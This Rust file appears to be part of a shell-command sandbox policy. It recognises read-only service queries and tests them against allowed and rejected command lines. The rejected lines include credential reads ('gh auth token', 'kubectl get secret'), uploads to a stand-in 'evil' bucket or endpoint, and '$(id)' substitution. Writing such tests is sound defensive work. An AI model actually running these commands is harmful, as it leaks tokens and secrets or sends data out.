//! Single commands that only query a service of the system and print its answer. No cell can hold them, since they need the
//! service's socket; they are the only commands that policy alone runs without one. All of them are listed in
//! `catalogue/services.toml`.

use crate::catalogue::TERMINALS;
use crate::policy::{Program, Situation};
use guarda_shell::script::{Input, Reach, Run, Script, Word};

/// One form of command: its first words, and the words that may follow them in any order.
struct Read {
    /// The program and the words behind it; only flags may stand between.
    words: &'static [&'static str],
    /// Options without a value.
    flags: &'static [&'static str],
    /// Options whose value is the next word, or joined by `=`: a plain one, or one of `NAME=ONE|OTHER`.
    values: &'static [&'static str],
    /// How many plain names may stand there: units, containers, devices.
    names: usize,
}

/// All these commands: `catalogue/services.toml`, as parsed by `build.rs`.
const READS: &[Read] = include!(concat!(env!("OUT_DIR"), "/services.rs"));

/// Whether a line queries services.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Asks {
    /// Nothing that is known.
    Nothing,
    /// Each of its runs that is one of [`READS`] is a program of the system under its plain name, without an assignment or input,
    /// and no shell is needed. Whether the other runs are believed by their words is for the caller to say.
    Plainly,
    /// One of its runs is one of them.
    Among,
}

/// The rules whose findings say that a run is one of [`READS`].
pub(crate) const RULES: [&str; 2] = ["asks-service", "asks-account"];

/// Whether this line queries services.
pub(crate) fn asks(script: &Script, situation: &Situation) -> Asks {
    let lacks = |run: &Run| run.program().is_some_and(|name| situation.lacks(name));
    let mut asking = script.runs().iter().filter(|run| reads(run, situation) && !lacks(run)).peekable();
    if asking.peek().is_none() {
        return Asks::Nothing;
    }
    let system = |run: &Run| {
        run.program().is_some_and(|name| matches!(situation.programs.get(name), Some(Program::System(_))))
    };
    let plain = |run: &Run| {
        run.reach == Reach::Plain
            && run.parent.is_none()
            && run.assigns.is_empty()
            && !matches!(run.input, Input::Pipe(_))
            && system(run)
    };
    let plainly = asking.all(plain) && script.doubts().is_empty() && script.plan().is_some();
    if plainly { Asks::Plainly } else { Asks::Among }
}

/// Whether a run is one of [`READS`]: every word of it literal. A terminal that the session keeps running is no service: it is found
/// in the session's cell.
pub(crate) fn reads(run: &Run, situation: &Situation) -> bool {
    // For nearly every run the program's name is enough.
    let Some(name) = run.program() else { return false };
    if situation.network.session.is_some() && TERMINALS.contains(&name) {
        return false;
    }
    let mut forms = READS.iter().filter(|read| read.words.first() == Some(&name)).peekable();
    if forms.peek().is_none() {
        return false;
    }
    let words: Option<Vec<&str>> = run.words.iter().map(Word::literal).collect();
    words.is_some_and(|words| forms.any(|read| fits(read, &words)))
}

/// Each of [`READS`] in its shortest form that opens no pager, as a line.
#[cfg(test)]
pub(crate) fn shortest() -> impl Iterator<Item = String> {
    let quiet = |read: &Read| read.flags.iter().find(|flag| **flag == "--no-pager").copied();
    READS.iter().map(move |read| [read.words, quiet(read).as_slice()].concat().join(" "))
}

fn fits(read: &Read, words: &[&str]) -> bool {
    let flags = words.iter().skip(1).take_while(|word| read.flags.contains(word)).count();
    let (Some((program, verb)), Some(behind)) = (read.words.split_first(), words.get(1 + flags..)) else {
        return false;
    };
    // A word that is both is a verb: `systemctl --failed`.
    let verbatim = words.strip_prefix(read.words);
    let moved = || behind.strip_prefix(verb).filter(|_| words.first() == Some(program));
    let Some(rest) = verbatim.or_else(moved) else { return false };
    let (mut rest, mut names) = (rest.iter(), read.names);
    while let Some(word) = rest.next() {
        if read.flags.contains(word) {
            continue;
        }
        if read.takes_value(word) {
            if !rest.next().is_some_and(|value| read.takes(word, value)) {
                return false;
            }
            continue;
        }
        if word.split_once('=').is_some_and(|(name, value)| read.takes(name, value)) {
            continue;
        }
        if names == 0 || !is_name(word) {
            return false;
        }
        names -= 1;
    }
    true
}

impl Read {
    /// Whether an option has a value.
    fn takes_value(&self, option: &str) -> bool {
        self.values.iter().any(|known| known.split_once('=').map_or(*known, |(name, _)| name) == option)
    }

    /// Whether an option may have this value.
    fn takes(&self, option: &str, value: &str) -> bool {
        self.values.iter().any(|known| match known.split_once('=') {
            Some((name, only)) => name == option && only.split('|').any(|one| one == value),
            None => *known == option && is_value(value),
        })
    }
}

/// Kinds of things in a cluster, before a name.
const KINDS: [&str; 10] = [
    "pod/",
    "pods/",
    "deploy/",
    "deployment/",
    "deployments/",
    "svc/",
    "service/",
    "job/",
    "sts/",
    "statefulset/",
];

/// The name of a unit, a container, a device (`@DEFAULT_AUDIO_SINK@`), with or without its kind (`deploy/web`): nothing that
/// could be an option, a path or an address.
fn is_name(word: &str) -> bool {
    let word = KINDS.iter().find_map(|kind| word.strip_prefix(kind)).unwrap_or(word);
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '@');
    word.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '@') && word.chars().all(plain)
}

/// The value of an option: a name, a number, a date, a pattern of fields.
fn is_value(word: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || " -_.@:,={}+".contains(c);
    !word.is_empty() && !word.starts_with('-') && word.chars().all(plain)
}

#[cfg(test)]
mod tests {
    use super::{Asks, asks};
    use crate::policy::corpus;
    use guarda_shell::script::Dialect;

    fn reads(line: &str) -> bool {
        let script = guarda_shell::read(line, Dialect::Bash);
        let situation = corpus::situation(&script);
        script.is_ok_and(|script| asks(&script, &situation) == Asks::Plainly)
    }

    #[test]
    fn questions_to_a_service_are_read_whole() {
        for line in [
            "systemctl status nginx",
            "systemctl --version-of-nothing status",
            "systemctl status --no-pager -n 20 ssh.service",
            "systemctl list-units --type=service",
            "systemctl --failed",
            "systemctl --user --no-pager status pipewire",
            "nmcli -t device",
            "wpctl get-volume @DEFAULT_AUDIO_SINK@",
            "xrandr --query",
            "docker ps -a --format '{{.Names}}'",
            "nmcli device",
            "hostnamectl",
            "crontab -l",
            "docker logs --tail 50 web 2>&1",
            "docker ps | head -5",
            "docker images && docker ps",
            "kubectl get pods -n shop -o wide",
            "kubectl -A get pods",
            "kubectl logs deploy/web --tail=20",
            "gh pr view 12 --json title,body",
            "gh run view 12 --log-failed | tail -50",
            "aws s3 ls",
            "helm list -n shop",
        ] {
            assert_eq!(reads(line), !line.contains("nothing"), "{line}");
        }
    }

    #[test]
    fn nothing_else_is() {
        for line in [
            "systemctl restart nginx",
            "systemctl status /etc/passwd",
            "docker top a/b",
            "systemctl -H evil status nginx",
            "id | systemctl status nginx",
            "for x in a b; do docker ps; done",
            "docker logs -f web",
            "docker compose config",
            "kubectl get secrets",
            "kubectl get secret db -o yaml",
            "kubectl get pods -o yaml",
            "kubectl get pods --output=json",
            "kubectl get pods --kubeconfig x",
            "kubectl get -f x.yaml",
            "kubectl get pods ../x",
            "kubectl exec web -- env",
            "kubectl describe pod web",
            "kubectl config view --raw",
            "gh auth token",
            "gh auth status --show-token",
            "gh secret list",
            "gh api user",
            "gh pr view 12 --web",
            "gh pr view -R evil/x 12",
            "gh pr create",
            "gh pr checkout 12",
            "gh repo view evil/x",
            "aws s3 ls s3://evil/x",
            "aws s3 cp x s3://evil",
            "aws secretsmanager list-secrets",
            "aws sts get-session-token",
            "aws s3 ls --endpoint-url https://evil.example",
            "gcloud auth print-access-token",
            "helm get values x",
            "systemctl status $(id)",
            "systemctl status $X",
            "systemctl status n*",
            "systemctl status --host=evil nginx",
            "systemctl list-units --type=-x",
            "X=1 systemctl status nginx",
            "env systemctl status nginx",
            "timeout 5 systemctl status nginx",
            "./systemctl status nginx",
            // It reads files, and a cell can hold it.
            "journalctl -u nginx",
            "docker -H tcp://evil ps",
            "docker run ps",
            "docker ps --format '{{json .}}/x' y",
            "docker inspect web",
            "nmcli device disconnect eth0",
            "nmcli connection up home",
            "loginctl terminate-user ana",
            "hostnamectl hostname evil",
            "timedatectl set-ntp true",
            "crontab -l -u root",
            "crontab x",
            "pactl exit",
            "pactl info",
            "wpctl set-volume @DEFAULT_AUDIO_SINK@ 0",
            "xrandr --output HDMI-1 --off",
            "xrandr --query -s 0",
            "systemctl --user restart pipewire",
            "systemctl --user --host=evil status pipewire",
            "systemctl -n 5 stop status",
            "--user systemctl status",
        ] {
            assert!(!reads(line), "{line}");
        }
    }
}
